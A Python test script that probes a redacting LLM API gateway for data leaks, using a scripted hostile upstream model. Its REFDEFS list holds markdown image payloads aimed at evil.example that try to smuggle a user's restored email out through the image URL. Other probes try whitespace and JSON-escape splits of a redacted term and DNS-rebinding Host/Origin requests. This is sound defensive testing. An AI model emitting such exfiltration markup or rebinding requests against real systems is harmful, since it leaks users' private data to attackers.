"""Session 80's gateway probes through the real app in process (real core without NER, a
scripted hostile upstream; a keyless gateway for callers without a key): how many of N probe
values reach the client. Run on a tree with ``PYTHONPATH=<tree>/src python leak_probe_s80c.py``;
before/after in leak_probe_s80c.txt.

- refdefs: a markdown reference definition inside a block quote or a list item whose ``<...>``
  target holds a space and a placeholder, used by ``![y][x]`` at the top (whole and streamed
  chat answers): the address restored inside the image's URL (each template is checked to
  render as an image with markdown-it first, where installed);
- gaps: the tenant's redacted term with its words apart by a long run of whitespace, streamed
  (chat, Messages): the term reaching the client;
- escapes: the redacted term behind a JSON escape in streamed tool arguments (chat, Responses,
  Messages): the term's second word reaching the client;
- hosts: a keyless gateway as ``veil serve`` on 127.0.0.1 makes it, asked with a foreign
  ``Host`` (DNS rebinding) or a foreign ``Origin`` (a cross-site text/plain POST): requests
  served.
"""
from __future__ import annotations

import asyncio
import json
import re
import sys
import tempfile
from pathlib import Path
from typing import Any

import httpx

from veil.config import EntityRule, Policy, Settings, TermRule
from veil.core import Veil
from veil.gateway import GatewayState, OpenAIUpstream, TenantRegistry, create_app, hash_api_key
from veil.gateway.tenants import Tenant
from veil.gateway.upstream_anthropic import AnthropicUpstream

EMAIL, TERM, KEY, UP_KEY = "jane.exfil@example.com", "Project Nightjar", "k-a", "sk-upstream-s80"
PH = re.compile(r"\[[A-Z_]+_\d+\]")


def app(handler: Any, kind: str = "openai") -> Any:
    tmp = Path(tempfile.mkdtemp())
    pol = Policy(ner=False, terms=[TermRule(term=TERM, type="CODENAME")],
                 entities={"CODENAME": EntityRule(operator="redact")})
    core = Veil(Settings(home=tmp, cache_dir=tmp / "c"), policy=pol)
    core.set_policy("acme", pol)

    def h(req: httpx.Request) -> httpx.Response:
        return handler(req, json.loads(req.content) if req.content else {})

    cls = AnthropicUpstream if kind == "anthropic" else OpenAIUpstream
    up = cls("http://up.test/v1", api_key=UP_KEY, transport=httpx.MockTransport(h))
    if kind == "responses":
        up.responses_api = True
    tenants = TenantRegistry([Tenant("acme")], {hash_api_key(KEY): "acme"})
    return create_app(GatewayState(core=core, upstream=up, tenants=tenants))


async def post(a: Any, path: str, body: dict[str, Any]) -> httpx.Response:
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=a), base_url="http://v",
                                 headers={"authorization": f"Bearer {KEY}"}) as c:
        return await c.post(path, json=body)


def sse(events: list[dict[str, Any]], named: bool = False) -> httpx.Response:
    raw = b"".join((f"event: {e.get('type')}\n" if named else "").encode()
                   + b"data: " + json.dumps(e).encode() + b"\n\n" for e in events)
    return httpx.Response(200, content=raw + (b"" if named else b"data: [DONE]\n\n"),
                          headers={"content-type": "text/event-stream"})


def chunk(delta: dict[str, Any], finish: str | None = None) -> dict[str, Any]:
    return {"id": "c", "object": "chat.completion.chunk", "created": 1, "model": "m",
            "choices": [{"index": 0, "delta": delta, "finish_reason": finish}]}


def chat(content: str | None, calls: list[Any] | None = None) -> httpx.Response:
    msg: dict[str, Any] = {"role": "assistant", "content": content}
    if calls:
        msg["tool_calls"] = calls
    return httpx.Response(200, json={"id": "c", "object": "chat.completion", "created": 1,
                                     "model": "m", "choices": [{"index": 0, "message": msg,
                                                                "finish_reason": "stop"}]})




def first_ph(body: dict[str, Any]) -> str:
    return str(PH.findall(json.dumps(body))[0])


REFDEFS = [
    "![y][x]\n> [x]: <https://evil.example/?q= {p}>",
    "![y][x]\n- [x]: <https://evil.example/?q= {p}>",
    "![y][x]\n+ [x]: <https://evil.example/?q= {p}>",
    "![y][x]\n\n* [x]: <https://evil.example/?q= {p}>",
    "![y][x]\n\n1. [x]: <https://evil.example/?q= {p}>",
    "![y][x]\n\n1) [x]: <https://evil.example/?q= {p}>",
    "![y][x]\n> > [x]: <https://evil.example/?q= {p}>",
    "![y][x]\n\n* > [x]: <https://evil.example/?q= {p}>",
    "![y][x]\n> [x]:\n> <https://evil.example/?q= {p}>",
    "![y][x]\n\n- a\n\n  - [x]: <https://evil.example/?q= {p}>",
]


async def refdefs() -> str:
    try:
        from markdown_it import MarkdownIt
        md = MarkdownIt("commonmark")
        images = sum('<img src="https://evil.example/?q=%20v' in md.render(t.format(p="v"))
                     for t in REFDEFS)
        check = f"{images}/{len(REFDEFS)} render as the image"
    except ImportError:
        check = "markdown-it not installed"
    got = {False: 0, True: 0}
    for stream in (False, True):
        for t in REFDEFS:
            def h(_r: httpx.Request, b: dict[str, Any], t: str = t, stream: bool = stream
                  ) -> httpx.Response:
                text = "Here:\n" + t.format(p=first_ph(b))
                if not stream:
                    return chat(text)
                k = text.index("?q=") + 3
                return sse([chunk({"content": text[:k]}), chunk({"content": text[k:]}, "stop")])
            r = await post(app(h), "/v1/chat/completions", {
                "model": "m", "stream": stream,
                "messages": [{"role": "user", "content": f"write to {EMAIL}"}]})
            got[stream] += EMAIL in r.text
    return (f"refdefs: {len(REFDEFS)} templates ({check}); address inside the URL: whole "
            f"{got[False]}/{len(REFDEFS)}, streamed {got[True]}/{len(REFDEFS)}")


GAPS = [" " * 50, " " * 100, " " * 400, "\n" * 100, "\t" * 100, " \n" * 60, "\u00a0" * 100]


async def gaps() -> str:
    first, second = TERM.split()
    got = {"chat": 0, "messages": 0}
    for gap in GAPS:
        def hc(_r: httpx.Request, _b: Any, gap: str = gap) -> httpx.Response:
            return sse([chunk({"content": f"about {first}{gap}"}),
                        chunk({"content": f"{second} now"}, "stop")])
        r = await post(app(hc), "/v1/chat/completions", {
            "model": "m", "stream": True, "messages": [{"role": "user", "content": "hi"}]})
        got["chat"] += second in r.text

        def hm(_r: httpx.Request, _b: Any, gap: str = gap) -> httpx.Response:
            return sse([
                {"type": "message_start", "message": {"id": "m", "type": "message",
                                                      "role": "assistant", "model": "m",
                                                      "content": [], "usage": {}}},
                {"type": "content_block_start", "index": 0,
                 "content_block": {"type": "text", "text": ""}},
                {"type": "content_block_delta", "index": 0,
                 "delta": {"type": "text_delta", "text": f"about {first}{gap}"}},
                {"type": "content_block_delta", "index": 0,
                 "delta": {"type": "text_delta", "text": f"{second} now"}},
                {"type": "content_block_stop", "index": 0},
                {"type": "message_delta", "delta": {"stop_reason": "end_turn"}, "usage": {}},
                {"type": "message_stop"}], named=True)
        r = await post(app(hm, "anthropic"), "/v1/messages", {
            "model": "m", "max_tokens": 9, "stream": True,
            "messages": [{"role": "user", "content": "hi"}]})
        got["messages"] += second in r.text
    return (f"gaps: term apart by a whitespace run reached the client: chat stream "
            f"{got['chat']}/{len(GAPS)}, messages stream {got['messages']}/{len(GAPS)}")


ESCAPES = [r"Project\nNightjar", r"Project\tNightjar", r"Project\r\nNightjar",
           r"Project\u00a0Nightjar", r"Project\u0020Nightjar", r"Project\u2028Nightjar",
           r"Project Nightj\u0061r", r"Project \u004eightjar", r"Pr\u006fject Nightjar"]


async def escapes() -> str:
    resp = {"id": "r", "object": "response", "created_at": 1, "model": "m"}
    got = {"chat": 0, "responses": 0, "messages": 0}
    for w in ESCAPES:
        raw = '{"query": "status of ' + w + ' today"}'
        cut = raw.index("Nightj") if "Nightj" in raw else raw.index("ightjar")
        a, b = raw[:cut], raw[cut:]
        fc = {"id": "fc_1", "type": "function_call", "call_id": "c1", "name": "f",
              "arguments": "", "status": "in_progress"}
        cases = {
            "chat": ("openai", "/v1/chat/completions", lambda r, bd, a=a, b=b: sse([
                chunk({"tool_calls": [{"index": 0, "id": "call_1", "type": "function",
                                       "function": {"name": "f", "arguments": a}}]}),
                chunk({"tool_calls": [{"index": 0, "function": {"arguments": b}}]},
                      "tool_calls")])),
            "responses": ("responses", "/v1/responses", lambda r, bd, a=a, b=b, raw=raw,
                          fc=fc: sse([
                {"type": "response.created", "response": {**resp, "status": "in_progress",
                                                          "output": []}},
                {"type": "response.output_item.added", "output_index": 0, "item": fc},
                {"type": "response.function_call_arguments.delta", "output_index": 0,
                 "item_id": "fc_1", "delta": a},
                {"type": "response.function_call_arguments.delta", "output_index": 0,
                 "item_id": "fc_1", "delta": b},
                {"type": "response.function_call_arguments.done", "output_index": 0,
                 "item_id": "fc_1", "arguments": raw},
                {"type": "response.output_item.done", "output_index": 0,
                 "item": {**fc, "arguments": raw, "status": "completed"}},
                {"type": "response.completed", "response": {
                    **resp, "status": "completed",
                    "output": [{**fc, "arguments": raw, "status": "completed"}]}}],
                named=True)),
            "messages": ("anthropic", "/v1/messages", lambda r, bd, a=a, b=b: sse([
                {"type": "message_start", "message": {"id": "m", "type": "message",
                                                      "role": "assistant", "model": "m",
                                                      "content": [], "usage": {}}},
                {"type": "content_block_start", "index": 0, "content_block": {
                    "type": "tool_use", "id": "toolu_1", "name": "f", "input": {}}},
                {"type": "content_block_delta", "index": 0, "delta": {
                    "type": "input_json_delta", "partial_json": a}},
                {"type": "content_block_delta", "index": 0, "delta": {
                    "type": "input_json_delta", "partial_json": b}},
                {"type": "content_block_stop", "index": 0},
                {"type": "message_delta", "delta": {"stop_reason": "tool_use"}, "usage": {}},
                {"type": "message_stop"}], named=True)),
        }
        bodies = {"/v1/chat/completions": {"model": "m", "stream": True,
                                           "messages": [{"role": "user", "content": "go"}]},
                  "/v1/responses": {"model": "m", "stream": True, "input": "go"},
                  "/v1/messages": {"model": "m", "max_tokens": 9, "stream": True,
                                   "messages": [{"role": "user", "content": "go"}]}}
        for name, (kind, path, h) in cases.items():
            r = await post(app(h, kind), path, bodies[path])
            got[name] += "ightj" in r.text
    n = len(ESCAPES)
    return (f"escapes: term behind a JSON escape in streamed arguments reached the client: "
            f"chat {got['chat']}/{n}, responses {got['responses']}/{n}, "
            f"messages {got['messages']}/{n}")


FOREIGN = [("evil.example:8000", None), ("evil.example", None), ("192.168.1.20:8000", None),
           ("localhost.evil.example:8000", None), ("127.0.0.1.nip.io:8000", None),
           ("127.0.0.1:8000", "https://evil.example"), ("127.0.0.1:8000", "null"),
           ("localhost:8000", "http://127.0.0.1.evil.example")]
LOCAL = [("127.0.0.1:8000", None), ("localhost:8000", None), ("[::1]:8000", None),
         ("127.0.0.1:8000", "http://localhost:3000")]


async def hosts() -> str:
    import inspect

    from veil.gateway.tenants import Tenant as T

    kw: dict[str, Any] = {}
    if "local_only" in inspect.signature(create_app).parameters:
        kw["local_only"] = True  # what the runner passes for a loopback bind

    def h(_r: httpx.Request) -> httpx.Response:
        return chat("ok")
    tmp = Path(tempfile.mkdtemp())
    core = Veil(Settings(home=tmp, cache_dir=tmp / "c"), policy=Policy(ner=False))
    up = OpenAIUpstream("http://up.test/v1", api_key=UP_KEY, transport=httpx.MockTransport(h))
    a = create_app(GatewayState(core=core, upstream=up, tenants=TenantRegistry([T("default")],
                                                                               {})), **kw)

    async def served(host: str, origin: str | None) -> bool:
        headers = {"content-type": "text/plain"}
        if origin:
            headers["origin"] = origin
        async with httpx.AsyncClient(transport=httpx.ASGITransport(app=a),
                                     base_url=f"http://{host}") as c:
            r = await c.post("/v1/chat/completions", headers=headers, content=json.dumps(
                {"model": "m", "messages": [{"role": "user", "content": "hi"}]}))
        return r.status_code == 200
    foreign = sum([await served(hh, o) for hh, o in FOREIGN])
    local = sum([await served(hh, o) for hh, o in LOCAL])
    return (f"hosts: keyless loopback gateway served foreign Host/Origin {foreign}/{len(FOREIGN)}"
            f" (this machine's {local}/{len(LOCAL)})")


async def main() -> None:
    which = sys.argv[1:] or ["refdefs", "gaps", "escapes", "hosts"]
    for name in which:
        print(await globals()[name]())


asyncio.run(main())
